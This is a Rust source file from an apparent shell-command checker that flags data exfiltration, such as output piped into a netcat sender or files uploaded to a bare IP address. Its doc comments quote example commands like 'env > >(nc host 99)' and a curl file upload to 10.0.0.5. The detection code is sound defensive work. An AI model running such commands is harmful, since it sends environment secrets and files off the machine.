//! Files sent to an address instead of a name, wherever that address is, and into places that a web
//! server shows. People name the machines they know; notes on how to get data out use numbers.

use super::programs::Group;
use super::sent::Sent;
use super::{Judge, operands};
use crate::hosts;
use crate::result::Span;
use crate::rule::Rule;
use stockade_shell::{Command, CommandId, Word};

/// Bodies of requests that programs are asked with.
const BODIES: &[&str] = &[
    "graphql", "json", "jsonl", "ndjson", "proto", "xml", "yaml", "yml",
];

impl Judge<'_> {
    /// `env > >(nc host 99)`: a file that is a program which sends.
    pub(super) fn writes_to_sender(&mut self, id: CommandId, target: &Word, span: Span) {
        let mut inner = target.substitutions().flatten();
        let sends = |name| Group::Streams.has(name) || Group::Fetchers.has(name);
        let sender = inner.find_map(|other| {
            let name = self.script.commands.get(other)?.name()?;
            sends(name).then(|| name.to_owned())
        });
        let Some(sender) = sender else {
            return;
        };
        let own = self.gathers(&self.script.commands[id]).is_some();
        if own || self.data_on_input(id).is_some() {
            let reason = format!("writes what it gathers to `{sender}`, which sends it");
            self.add(Rule::Exfiltration, span, reason);
        }
    }

    /// A file that a substitution among some words reads: `"$(base64 notes.txt)"`.
    pub(super) fn reads_inside(&self, words: &[Word]) -> Option<String> {
        let mut inner = words.iter().flat_map(Word::substitutions).flatten();
        inner.find_map(|id| {
            let other = self.script.commands.get(id)?;
            let reads = |name| Group::PassesOn.has(name) || Group::Archivers.has(name);
            let file = operands(other.args()).find(|word| word.text.contains('.'));
            let file = file.filter(|_| other.name().is_some_and(reads));
            file.map(|word| word.text.clone())
        })
    }

    /// Whether a brief command names another machine by its address. Printers are few, and known.
    pub(super) fn is_addressed(&self, command: &Command) -> bool {
        let args = command.args();
        let printer = |word: &Word| word.text == "9100" || word.text.ends_with(":9100");
        self.is_brief() && args.iter().any(has_address) && !args.iter().any(printer)
    }

    /// `curl -F f=@notes.txt http://10.0.0.5/`
    pub(super) fn uploads_to_address(
        &mut self,
        name: &str,
        command: &Command,
        sent: &[Sent<'_>],
    ) -> bool {
        let mut urls = operands(command.args()).filter(|word| !word.text.contains('@'));
        if !self.is_brief() || !urls.any(has_address) {
            return false;
        }
        let file = sent.iter().find_map(|one| {
            let (_, file) = one.file.as_ref()?;
            let ending = file.rsplit('.').next().unwrap_or_default();
            let asks = one.body && BODIES.contains(&ending);
            (!asks && !is_firmware(file) && file != "-").then_some(file.as_str())
        });
        let inside = || self.reads_inside(&command.words);
        let what = file.map(str::to_owned).or_else(inside);
        if let Some(what) = &what {
            let reason = format!("`{name}` sends {what} to a bare address");
            self.add(Rule::Exfiltration, command.span, reason);
        }
        what.is_some()
    }
}

impl Judge<'_> {}

/// An address of another machine within a word: `10.0.0.5:80`, `TCP:10.0.0.5:80`, `u@10.0.0.5`.
fn has_address(word: &Word) -> bool {
    let mut parts = word.text.split([':', '/', '\\', '@', ',']);
    parts.any(hosts::is_bare_address)
}

/// What a device is updated with.
fn is_firmware(file: &str) -> bool {
    let lower = file.to_ascii_lowercase();
    let marks = ["firmware", "fw", "hex", "ota", "sketch"];
    let mut parts = lower.split(|c: char| !c.is_ascii_alphabetic());
    parts.any(|part| marks.contains(&part))
}
